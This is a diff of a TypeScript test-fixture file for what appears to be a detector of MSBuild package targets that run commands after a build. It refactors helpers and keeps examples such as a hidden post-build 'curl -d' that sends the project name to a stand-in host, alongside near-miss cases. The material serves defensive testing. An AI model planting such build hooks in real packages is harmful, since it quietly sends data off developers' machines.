@@ -1,37 +1,13 @@
-import type { Examples } from '../../../tests/kit/examples.js';
-
-function target(command: string): Record<string, string> {
-  return {
-    'build/Fixture.Package.targets': `<Project>
-  <Target Name="Tell" AfterTargets="Build" Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
-    <Exec Command="${command}" />
-  </Target>
-</Project>
-`,
-  };
-}
-
-function inlineTask(code: string): Record<string, string> {
-  return {
-    'build/Fixture.Package.targets': `<Project>
-  <UsingTask TaskName="Tell" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
-    <Task><Code Type="Fragment" Language="cs"><![CDATA[
-if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return true;
-${code}
-    ]]></Code></Task>
-  </UsingTask>
-  <Target Name="TellFixture" AfterTargets="Build"><Tell /></Target>
-</Project>
-`,
-  };
-}
+import { buildCommand, inlineTask, type Examples } from '../../../tests/kit/examples.js';
 
 export const examples: Examples = {
   flagged: [
     {
       name: 'posts-the-project',
       about: 'A command line that posts the name of the project after each build.',
-      files: target('curl -d name=$(MSBuildProjectName) https://count.fixture.invalid/builds'),
+      files: buildCommand(
+        'curl -d name=$(MSBuildProjectName) https://count.fixture.invalid/builds',
+      ),
     },
     {
       name: 'posts-from-a-task',
@@ -46,13 +22,13 @@ export const examples: Examples = {
       name: 'fetches',
       about: 'A command line that fetches a schema, and sends nothing.',
       nearMiss: true,
-      files: target('curl -o obj/a.xsd https://schemas.fixture.invalid/a.xsd'),
+      files: buildCommand('curl -o obj/a.xsd https://schemas.fixture.invalid/a.xsd'),
     },
     {
       name: 'consumer-names-the-host',
       about: 'A command line that uploads to the server a property names.',
       nearMiss: true,
-      files: target('curl -T $(PackageOutputPath) $(UploadAddress)'),
+      files: buildCommand('curl -T $(PackageOutputPath) $(UploadAddress)'),
     },
   ],
 };
